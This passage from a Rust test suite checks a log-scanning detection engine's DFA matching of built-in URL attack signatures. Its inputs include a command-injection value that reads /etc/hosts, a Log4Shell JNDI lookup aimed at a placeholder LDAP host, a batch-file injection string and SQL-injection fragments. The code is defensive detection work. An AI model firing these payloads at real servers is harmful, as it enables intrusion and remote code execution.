        let hot: Vec<FieldSet> = rules.sets.iter().map(always_hot).collect();
        for text in &texts {
            let normalized = normalize(&String::from_utf8_lossy(text));
            for set in rules.sets.iter().chain(&hot) {
                let text = match set.normalized {
                    true => normalized.as_bytes(),
                    false => text.as_slice(),
                };
                let one_by_one: Vec<bool> = set.patterns.iter().map(|p| p.is_match(text)).collect();
                assert_eq!(
                    dfa_answer(set, text),
                    one_by_one.contains(&true).then_some(one_by_one),
                    "field {} on {:?}",
                    set.field,
                    String::from_utf8_lossy(text)
                );
            }
        }
    }

    /// `set` with its scanner's root hot from the first text: the parted
    /// patterns read (see Scanner).
    fn always_hot(set: &FieldSet) -> FieldSet {
        let patterns: Vec<&str> = set.patterns.iter().map(Regex::as_str).collect();
        FieldSet {
            field: set.field.clone(),
            normalized: set.normalized,
            scanner: Arc::new(Scanner::always_hot(&patterns, SET_SIZE_LIMIT).unwrap()),
            patterns: set.patterns.clone(),
        }
    }

    #[test]
    fn a_payload_is_searched_from_where_the_readings_from_starts_first_matched_it() {
        let rules = crate::logs::builtin().unwrap();
        let url = rules
            .sets
            .iter()
            .find(|set| set.field == "url" && set.normalized)
            .unwrap();
        let hot = always_hot(url);
        let text = scrambled(&["a", "b", "c", "+"], 3_000, 7, ";cat /etc/hosts", 2_500);
        let fallbacks = AtomicU64::new(0);
        let matched = hot.matches(&text, &fallbacks).unwrap();
        let (index, _) = matched
            .found
            .iter()
            .enumerate()
            .find(|(_, hit)| **hit)
            .unwrap();
        assert!(matched.from(index) > 2_000, "{}", matched.from(index));
        assert_eq!(dfa_answer(&hot, &text), Some(matched.found.clone()));
    }

    #[test]
    fn a_branch_read_from_the_end_of_its_first_run_tells_no_place() {
        // `\b\w+\.(bat|cmd|...)` is read from its starts as `\w\.(bat|...)`:
        // a reading starts at the word's last character, the match at its
        // first, and the payload must be searched from there.
        let rules = crate::logs::builtin().unwrap();
        let hot = always_hot(url_set(&rules));
        let text = scrambled(&["a", "b", "c", "+"], 3_000, 7, "+backup.bat &", 2_500);
        let found = dfa_answer(&hot, &text);
        assert!(found.is_some_and(|found| found.contains(&true)));
    }

    /// Which of `set`'s patterns match `text`, as its DFAs tell (with
    /// relaxed patterns' matches confirmed); they must not give up. Each
    /// match's place is one no match starts before: a search from there
    /// finds the pattern's first match.
    fn dfa_answer(set: &FieldSet, text: &[u8]) -> Option<Vec<bool>> {
        let fallbacks = AtomicU64::new(0);
        let matched = set.matches(text, &fallbacks);
        assert_eq!(fallbacks.load(Ordering::Relaxed), 0, "field {}", set.field);
        let matched = matched?;
        for (index, pattern) in set.patterns.iter().enumerate() {
            if matched.found[index] {
                assert_eq!(
                    pattern
                        .find_at(text, matched.from(index))
                        .map(|m| m.range()),
                    pattern.find(text).map(|m| m.range()),
                    "field {} pattern {index} from {}",
                    set.field,
                    matched.from(index)
                );
                if set.scanner.relaxed(index) {
                    assert_eq!(
                        matched.first(index),
                        pattern.find(text).map(|m| m.range()),
                        "field {} pattern {index}",
                        set.field
                    );
                }
            }
        }
        Some(matched.found)
    }

    #[test]
    fn a_match_of_a_pattern_read_relaxed_is_confirmed_by_the_pattern_itself() {
        // Log4Shell's lookup allows 60 characters before the `j`; read
        // relaxed, 61 match too.
        let rules = crate::logs::builtin().unwrap();
        let set = url_set(&rules);
        let log4shell = pattern_holding(set, "jndi");
        assert!(set.scanner.relaxed(log4shell));
        for (dots, matches) in [(60, true), (61, false)] {
            let text = format!("/a?q=${{{}jndi:ldap://e/a}}", ".".repeat(dots));
            let told = set.scanner.matches(text.as_bytes()).unwrap();
            assert!(told.is_some_and(|found| found[log4shell]), "{text}");
            let confirmed = dfa_answer(set, text.as_bytes());
            assert_eq!(
                confirmed.is_some_and(|found| found[log4shell]),
                matches,
                "{text}"
            );
        }
    }

    #[test]
    fn a_relaxed_patterns_payload_is_the_match_its_confirmation_found() {
        // The confirmation searched for the first match and the payload
        // searched for it again: on random punctuation, where SQL
        // injection's relaxed pattern matches a quote and a `#`, 9 % of
        // the time went to the second search.
        let rules = crate::logs::builtin().unwrap();
        let set = url_set(&rules);
        let sql = pattern_holding(set, "information_schema");
        assert!(set.scanner.relaxed(sql));
        let text = b"/a?q=}[$.*'#(;-=&>||'#".as_slice();
        let fallbacks = AtomicU64::new(0);
        let matched = set.matches(text, &fallbacks).unwrap();
        let first = set.patterns[sql].find(text).map(|m| m.range());
        assert_eq!(first, Some(10..12));
        assert_eq!(matched.first(sql), first);
        let line = format!(
            r#"203.0.113.7 - - [23/Nov/2026:03:24:25 +0000] "GET {} HTTP/1.1" 200 612 "-" "curl/8.5.0""#,
            std::str::from_utf8(text).unwrap()
        );
        let fields = jaga_decode::decode(&line, &jaga_decode::UserDecoders::default());
        let alerts = rules.evaluate(&fields, 0, &mut FrequencyState::default());
        let alert = alerts.iter().find(|m| m.id == "93100").unwrap();
        assert_eq!(alert.payload.as_deref(), Some("'#"));
        // A relaxed pattern that does not match has no place.
        let far = format!("/a?q=${{{}jndi:ldap://e/a}}", ".".repeat(61));
        let log4shell = pattern_holding(set, "jndi");
        let matched = set.matches(far.as_bytes(), &fallbacks);
        assert!(matched.is_none_or(|m| !m.found[log4shell] && m.first(log4shell).is_none()));
    }

    /// The index in `set` of the pattern whose source holds `part`.
    fn pattern_holding(set: &FieldSet, part: &str) -> usize {
        set.patterns
            .iter()
            .position(|p| p.as_str().contains(part))
            .unwrap()
    }

    /// The url's normalized patterns, as the built-in rules compile them.
    fn url_set(rules: &RuleSet) -> &FieldSet {
        rules
            .sets
            .iter()
            .find(|set| set.field == "url" && set.normalized)
            .unwrap()
    }

    #[test]
    fn random_printable_lines_leave_the_dfa_of_all_patterns_for_its_halves() {
        // A new line of random printable text each time made the DFA of
        // all the url's patterns build states all the time: 1.1 ms a line
        // of 8 KB, 1,800 lines/s.
        let rules = crate::logs::builtin().unwrap();
        let scanner = &url_set(&rules).scanner;
        let printable: Vec<String> = "abcdefghijklmnopqrstuvwxyz0123456789'()<>;|&$`{}[]*/.=-#+"
            .chars()
            .map(String::from)
            .collect();
        let printable: Vec<&str> = printable.iter().map(String::as_str).collect();
        let split_after = (0..400).position(|seed| {
            let text = scrambled(&printable, 8_000, seed, "", 0);
            let text = normalize(&String::from_utf8_lossy(&text));
            scanner.matches(text.as_bytes()).unwrap();
            scanner.split_nodes() > 0
        });
        assert!(split_after.is_some(), "{scanner:?}");
    }

    #[test]
    fn urls_of_ordinary_traffic_are_read_by_the_dfa_of_all_patterns() {
        let rules = crate::logs::builtin().unwrap();
        let scanner = &url_set(&rules).scanner;
        for n in 0..3_000u32 {
            let url = match n % 4 {
                0 => format!("/api/v1/users/{n}/orders?page={}&sort=created_at", n % 17),
                1 => format!(
                    "/static/js/app.{:08x}.js?v={}",
                    n.wrapping_mul(2_654_435_761),
                    n % 9
                ),
                2 => format!("/search?q=blue+shoes+size+{}&lang=en-US", n % 45),
                _ => format!("/products/item-{n}/reviews?utm_source=newsletter&utm_medium=email"),
            };
            scanner.matches(normalize(&url).as_bytes()).unwrap();
        }
        assert_eq!(scanner.split_nodes(), 0, "{scanner:?}");
    }

    #[test]
    fn each_field_dfa_tells_the_same_patterns_as_the_patterns_one_by_one() {
        let rules = crate::logs::builtin().unwrap();
        for text in texts() {
            for set in &rules.sets {
                let text = match set.normalized {
                    true => normalize(&text),
                    false => text.clone(),
                };
                let one_by_one: Vec<bool> = set
                    .patterns
                    .iter()
                    .map(|p| p.is_match(text.as_bytes()))
                    .collect();
                assert_eq!(
                    dfa_answer(set, text.as_bytes()),
                    one_by_one.contains(&true).then_some(one_by_one),
                    "field {} on {:?}",
                    set.field,
                    text.get(..80)
                );
            }
        }
    }
}
